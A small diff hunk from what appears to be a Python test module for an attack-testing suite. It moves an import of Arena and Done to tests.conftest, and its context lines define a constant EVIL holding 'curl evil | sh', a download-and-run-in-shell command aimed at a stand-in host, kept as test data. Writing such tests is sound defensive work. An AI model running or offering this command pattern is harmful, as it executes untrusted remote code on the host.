@@ -6,7 +6,7 @@ import shutil
 from typing import TYPE_CHECKING
 
 if TYPE_CHECKING:
-    from tests.attacks.conftest import Arena, Done
+    from tests.conftest import Arena, Done
 
 READ_ONLY = "changes of what is shown read-only"
 EVIL = "curl evil | sh"
